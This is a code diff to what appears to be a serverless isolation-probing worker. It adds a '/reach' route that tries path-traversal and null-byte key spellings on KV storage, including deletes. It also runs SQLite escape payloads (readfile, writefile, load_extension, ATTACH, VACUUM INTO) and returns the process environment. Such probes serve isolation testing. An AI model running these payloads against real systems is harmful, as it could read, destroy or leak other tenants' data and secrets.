@@ -53,17 +53,7 @@ const ways = {
   /** Looks for what is another app's, by every name that might lead there. */
   async '/steal'(request, { BUCKET }) {
     const { searchParams } = new URL(request.url);
-    const names = searchParams.getAll('name');
-    const ways = (name) => [
-      name,
-      `../${name}`,
-      `../../${name}`,
-      `/${name}`,
-      `%2e%2e/${name}`,
-      `..\u0000/${name}`,
-      `${name}\u0000`,
-    ];
-    const keys = names.flatMap(ways);
+    const keys = searchParams.getAll('name').flatMap(spellings);
     const found = [];
     for (const key of keys) {
       if ((await BUCKET.get(key)) !== null) found.push(key);
@@ -73,6 +63,40 @@ const ways = {
       await BUCKET.delete(key);
     }
     return Response.json({ tried: keys.length, found });
+  },
+  /**
+   * Looks for what is another app's (`name`: its files, keys and ids) through KV and SQL, and in its own environment.
+   * `said`: all that it was answered.
+   */
+  async '/reach'(request, { KV, DB }) {
+    const names = new URL(request.url).searchParams.getAll('name');
+    const keys = names.flatMap(spellings);
+    const sql = names.flatMap((name) => [
+      `ATTACH '${name}' AS other`,
+      `SELECT * FROM '${name}'.t`,
+      `VACUUM INTO '${name}'`,
+      `SELECT readfile('${name}')`,
+      `SELECT writefile('${name}', 'x')`,
+      `SELECT load_extension('${name}')`,
+      `CREATE VIRTUAL TABLE v USING csv(filename='${name}')`,
+      `PRAGMA temp_store_directory = '${name}'`,
+    ]);
+    sql.push(
+      'PRAGMA database_list',
+      'SELECT * FROM sqlite_dbpage',
+      'SELECT * FROM t',
+      'SELECT * FROM _cf_KV',
+    );
+    const ways = [
+      ...keys.map((key) => () => KV.get(key)),
+      ...keys.map((key) => async () => JSON.stringify(await KV.list({ prefix: key }))),
+      ...keys.map((key) => () => KV.delete(key)),
+      ...sql.map((each) => async () => JSON.stringify(await DB.prepare(each).all())),
+    ];
+    const said = [];
+    for (const way of ways) said.push(await attempt(way));
+    said.push(JSON.stringify(process.env), JSON.stringify({ ...everything }));
+    return Response.json({ tried: ways.length, said });
   },
   /**
    * Looks for ways out: to addresses (`to`, as host:port) and sockets (`socket`) that are not for apps, by itself and through
@@ -302,6 +326,12 @@ const ways = {
     await env.HOARD.getByName('all').write();
   },
 };
+
+/** A name, written so that it might lead elsewhere. */
+function spellings(name) {
+  const before = ['', '../', '../../', '/', '%2e%2e/', '..\u0000/'];
+  return [...before.map((each) => each + name), `${name}\u0000`];
+}
 
 async function attempt(way) {
   try {
